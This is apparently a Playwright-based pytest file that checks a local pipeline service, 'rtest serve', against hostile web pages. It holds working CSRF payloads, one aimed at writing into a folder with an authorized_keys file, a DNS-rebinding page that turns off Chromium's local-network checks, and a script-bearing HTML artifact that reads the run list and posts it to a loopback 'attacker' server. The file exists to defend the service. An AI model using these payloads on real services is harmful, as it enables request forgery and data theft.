"""Hostile web pages against a default `rtest serve`, in a real browser (Playwright driving Debian's chromium).

The user has the service's page open (the token cookie is in the browser) and visits a page on another
loopback port: same-site for cookies, another origin for everything else. It tries a text/plain POST,
a no-cors multipart POST and a form POST; a rebinding page (its name resolving to 127.0.0.1) reads and
posts same-origin. Every one is refused: no run, no upload, nothing written. A step-written .html
artifact downloads instead of running script on the service's origin."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from rtest.testing import write_python_pipeline
from serve_helpers import free_port, running_service

pytestmark = pytest.mark.browser
CHROMIUM = "/usr/bin/chromium"
REBOUND = "rebound.test"
# The rebound name resolves here; chromium's local-network checks are off, so that the service's own defences
# are what is tested (rebinding attacks exist because browsers' checks have had holes).
REBINDING_ARGS = [f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1",
                  "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,"
                  "PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults"]


class _Hostile:
    """The attacker's site: serves one page, records what comes back to it (a leak would land here)."""

    def __init__(self, html: str) -> None:
        self.port, self.html, self.received = free_port(), html, []
        hostile = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = hostile.html.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                hostile.received.append(self.rfile.read(int(self.headers.get("content-length") or 0)))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


def _attack_page(target: str, request: dict) -> str:
    body = json.dumps(json.dumps(request))
    return f"""<!doctype html><html><body>
<iframe name="sink"></iframe>
<form id="form" method="POST" action="{target}/api/runs" target="sink" enctype="text/plain">
  <input name='{{"spec":{{"x":"' value='"}}}}'></form>
<script>
window.results = [];
async function attack() {{
  const tries = [
    fetch("{target}/api/runs", {{method: "POST", mode: "no-cors", credentials: "include",
                                headers: {{"Content-Type": "text/plain"}}, body: {body}}}),
    (() => {{ const form = new FormData(); form.append("request", {body});
              form.append("bundle", new Blob(["not a tar"]), "b.tar.gz");
              return fetch("{target}/api/runs", {{method: "POST", mode: "no-cors", credentials: "include",
                                                   body: form}}); }})(),
  ];
  for (const t of tries) {{
    try {{ await t; window.results.push("sent"); }} catch (e) {{ window.results.push("blocked"); }}
  }}
  document.getElementById("form").submit();
  window.results.push("form");
}}
attack();
</script></body></html>"""


def _login(page, svc) -> None:
    page.goto(f"{svc.url}/?token={svc.token}")  # the URL rtest serve printed
    assert page.url == f"{svc.url}/"  # the token left the address bar
    assert page.evaluate("Object.keys(localStorage).length") == 0 and "token" not in page.evaluate("document.cookie")


def test_pages_of_other_origins_cannot_submit_and_a_rebinding_page_is_refused(tmp_path):
    from playwright.sync_api import sync_playwright

    victim = tmp_path / "home" / "authorized_keys"
    victim.parent.mkdir(parents=True)
    victim.write_text("ssh-ed25519 mine\n")
    paths = write_python_pipeline(tmp_path / "p", {"A": {"script": "# A\n",
                                                         "outputs": {"out": "/opt/ml/processing/output/out"}}}, [])
    request = {"spec": {"pipeline": {"dag": str(paths["dag"]), "config": str(paths["config"])},
                        "scripts": {"A": {"outputs": {"out": str(victim.parent)}}}}}
    with running_service(tmp_path / "wd") as svc, sync_playwright() as p:
        hostile = _Hostile(_attack_page(svc.url, request))
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", *REBINDING_ARGS])
        try:
            context = browser.new_context()
            page = context.new_page()
            _login(page, svc)
            attacker = context.new_page()
            attacker.goto(f"http://127.0.0.1:{hostile.port}/")
            attacker.wait_for_function("window.results.length === 3", timeout=30_000)
            attacker.wait_for_timeout(1000)  # the form's answer lands in the iframe
            tried = attacker.evaluate("window.results")
            # DNS rebinding: the attacker's page was served for rebound.test:PORT, then the name points here
            rebinding = context.new_page()
            rebinding.route(f"http://{REBOUND}:{svc.port}/", lambda route: route.fulfill(
                status=200, content_type="text/html", body="<html><body>rebinding</body></html>"))
            rebinding.goto(f"http://{REBOUND}:{svc.port}/")
            rebound = rebinding.evaluate("""async (request) => {
                const read = await fetch("/api/runs");
                const post = await fetch("/api/runs", {method: "POST", headers: {"Content-Type": "application/json"},
                                                       body: JSON.stringify(request)});
                return [read.status, post.status, await read.text()];
            }""", request)
        finally:
            browser.close()
            hostile.close()
        with svc.client() as client:
            total = client.runs()["total"]
    print(f"\nhostile page: {tried}; rebinding page: GET {rebound[0]}, POST {rebound[1]}")
    assert rebound[0] == 421 and rebound[1] == 421 and '"runs"' not in rebound[2]
    assert total == 0, "a hostile page created a run"
    assert victim.read_text() == "ssh-ed25519 mine\n" and sorted(p.name for p in victim.parent.iterdir()) == [
        "authorized_keys"]
    submissions = svc.workdir / "serve" / "submissions"
    assert not submissions.exists() or not any(submissions.iterdir())


def test_a_step_written_html_artifact_downloads_and_runs_no_script(tmp_path):
    from playwright.sync_api import sync_playwright

    paths = write_python_pipeline(tmp_path / "p", {"A": {"script": "# A\n",
                                                         "outputs": {"out": "/opt/ml/processing/output/out"}}}, [])
    with running_service(tmp_path / "wd") as svc, sync_playwright() as p:
        hostile = _Hostile("<html></html>")
        with svc.client() as client:
            run_id = client.submit({"spec": {"pipeline": {"dag": str(paths["dag"]), "config": str(paths["config"])}}})
            list(client.events(run_id))
        evil = svc.workdir / "runs" / run_id / "A" / "output" / "out" / "evil.html"  # as the step would write it
        evil.write_text(f"""<html><body><script>
            fetch("/api/runs").then(r => r.text()).then(t =>
              fetch("http://127.0.0.1:{hostile.port}/leak", {{method: "POST", mode: "no-cors", body: t}}));
            document.title = "pwned";
        </script></body></html>""")
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        try:
            context = browser.new_context(accept_downloads=True)
            page = context.new_page()
            _login(page, svc)
            url = f"{svc.url}/api/runs/{run_id}/artifacts/A/output/out/evil.html"
            with page.expect_download(timeout=30_000) as download:
                page.evaluate("url => { window.location.href = url; }", url)
            saved = Path(download.value.path()).read_text()
            page.wait_for_timeout(1000)
            title = page.title()
            report = page.context.request.get(f"{svc.url}/api/runs/{run_id}/artifacts/report.html")
        finally:
            browser.close()
            hostile.close()
    assert "document.title" in saved and title != "pwned" and hostile.received == []
    assert report.status == 200 and report.headers["content-security-policy"].startswith("sandbox")
